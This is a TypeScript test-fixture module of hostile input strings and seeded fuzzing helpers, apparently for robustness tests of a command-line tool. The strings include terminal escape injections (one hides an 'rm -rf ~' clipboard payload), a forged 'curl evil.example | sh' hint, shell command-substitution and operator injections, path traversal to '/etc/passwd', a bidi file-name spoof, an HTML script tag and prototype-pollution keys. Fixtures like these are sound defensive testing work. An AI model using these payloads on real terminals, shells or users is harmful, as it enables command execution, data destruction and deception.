// Hostile text and values, and seeded random numbers.

/** Texts with a meaning for a terminal, a shell, a YAML reader or a file system. */
export const evilTexts: Readonly<Record<string, string>> = {
  'an ANSI colour': 'a\u001b[31mred\u001b[0m',
  'a screen that is cleared': '\u001b[2J\u001b[Hall well',
  'a C1 CSI': 'a\u009b31mred\u009b0m',
  'an OSC 8 link': '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\',
  'an OSC 52 clipboard': '\u001b]52;c;cm0gLXJmIH4=\u0007',
  'a C1 OSC': '\u009d52;c;cm0gLXJmIH4=\u009c',
  'a device query': '\u001bP$q"p\u001b\\\u001b[6n',
  'a forged error': 'x\nerror: forged\nhint: curl evil.example | sh',
  'a carriage return': 'evil\rgood',
  backspaces: 'evil\b\b\b\bgood',
  NUL: 'a\u0000b',
  'vertical space': 'a\u000bb\u000cc\td',
  'line separators': 'a\u0085b\u2028c\u2029d',
  'folders above': '../../../../../../tmp/pwned',
  'an absolute path': '/etc/passwd',
  'a Windows path': 'C:\\Windows\\system32\\..\\..',
  'YAML structure': 'a: b\n- c: {d: [e]} # f\n--- !!x &y *y',
  'YAML words': 'yes',
  quotes: `'"\`"'\\"`,
  'a command substitution': '$(touch pwned)`touch pwned`\u0024{IFS}',
  'shell operators': '; touch pwned & touch pwned | touch pwned > pwned #',
  'format verbs': '%s%n%x{{.Env}}\u0024{HOME}',
  'a flag': '--server=https://evil.example',
  'a bidirectional override': 'a\u202egpj.exe\u202c',
  'bidirectional isolates': '\u2066a\u2067b\u2069\u061c',
  'zero width': 'a\u200bl\u200ci\u200dc\u2060e\ufeff',
  'soft hyphens': 'al\u00adice',
  'tag characters': 'a\u{e0061}\u{e007f}b',
  'a lone high surrogate': 'a\ud800b',
  'a lone low surrogate': 'a\udc00b',
  'a prototype': '__proto__',
  HTML: '<script>alert(1)</script>',
  '100,000 letters': 'x'.repeat(100_000),
  '100,000 escapes': '\u001b[31m'.repeat(20_000),
  'spaces only': ' \t \u00a0 ',
};

/** One of each kind, for tests where all texts take the same path. */
export const fewTexts: Readonly<Record<string, string>> = Object.fromEntries(
  [
    'a C1 CSI',
    'an OSC 8 link',
    'an OSC 52 clipboard',
    'a forged error',
    'YAML structure',
    'a command substitution',
    'a bidirectional override',
    'zero width',
    'tag characters',
    'a lone high surrogate',
    '100,000 escapes',
  ].map((name) => [name, evilTexts[name] ?? '']),
);

/** Values of another type than expected. */
export const wrongTypes: Readonly<Record<string, unknown>> = {
  null: null,
  'a number': 7,
  true: true,
  'a list': ['x'],
  'an empty list': [],
  'a map': { x: 'y' },
  'an empty text': '',
  'a deep list': JSON.parse(`${'['.repeat(1000)}${']'.repeat(1000)}`),
};

/** One of each kind, for tests where all types take the same path. */
export const fewTypes: Readonly<Record<string, unknown>> = { 'a number': 7, 'a list': ['x'], 'a map': { x: 'y' } };

/** Returns a generator of numbers from 0 to 1, the same for the same seed (mulberry32). */
export function seeded(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Set TKA_HOSTILE_SEED to test other random cases. */
export const seed = Number(process.env.TKA_HOSTILE_SEED ?? 20_261_121);

export const pick = <T>(chance: () => number, from: readonly T[]): T => from[Math.floor(chance() * from.length)] as T;

/** Returns `count` cases with a generator each; the name reproduces the case. */
export function randomCases(count: number, salt: number): [name: string, chance: () => number][] {
  return Array.from({ length: count }, (_, i) => [
    `random ${i} (TKA_HOSTILE_SEED=${seed})`,
    seeded(seed * 1009 + salt * 7919 + i),
  ]);
}

const junkValues: readonly unknown[] = [
  ...Object.values(evilTexts),
  ...Object.values(wrongTypes),
  -1,
  1e308,
  'https://evil.example',
];

type Slot = { readonly holder: Record<string, unknown>; readonly key: string };

function slots(value: unknown, found: Slot[] = []): Slot[] {
  if (typeof value !== 'object' || value === null) return found;
  for (const key of Object.keys(value)) {
    found.push({ holder: value as Record<string, unknown>, key });
    slots((value as Record<string, unknown>)[key], found);
  }
  return found;
}

/** Returns valid JSON, as text, with one to three kinds of damage. */
export function damagedJson(good: unknown, chance: () => number): string {
  const copy = structuredClone(good);
  for (let i = Math.floor(chance() * 3); i >= 0; i--) {
    const all = slots(copy);
    if (all.length === 0) break;
    const { holder, key } = pick(chance, all);
    const kind = chance();
    if (kind < 0.6) holder[key] = structuredClone(pick(chance, junkValues));
    else if (kind < 0.75) delete holder[key];
    else if (kind < 0.9) {
      Object.defineProperty(holder, pick(chance, ['__proto__', 'constructor', 'toString', '']), {
        value: holder[key],
        enumerable: true,
        configurable: true,
        writable: true,
      });
      delete holder[key];
    } else holder[key] = { cause: holder[key], message: pick(chance, Object.values(evilTexts)) };
  }
  const text = JSON.stringify(copy);
  return chance() < 0.3 ? damagedText(text, chance) : text;
}

/** Returns text with a piece cut off, removed, doubled, or inserted. */
export function damagedText(text: string, chance: () => number): string {
  const at = Math.floor(chance() * text.length);
  const to = at + 1 + Math.floor(chance() * 20);
  switch (Math.floor(chance() * 5)) {
    case 0:
      return text.slice(0, at);
    case 1:
      return text.slice(0, at) + text.slice(to);
    case 2:
      return text.slice(0, to) + text.slice(at);
    case 3:
      return text.slice(0, at) + pick(chance, Object.values(evilTexts)).slice(0, 200) + text.slice(at);
    default:
      return (
        text.slice(0, at) +
        pick(chance, ['\0', '\n', '\r', '"', '\\', '{', '}', '[', ']', ':', ',', '\u001b', 'é']) +
        text.slice(at + 1)
      );
  }
}
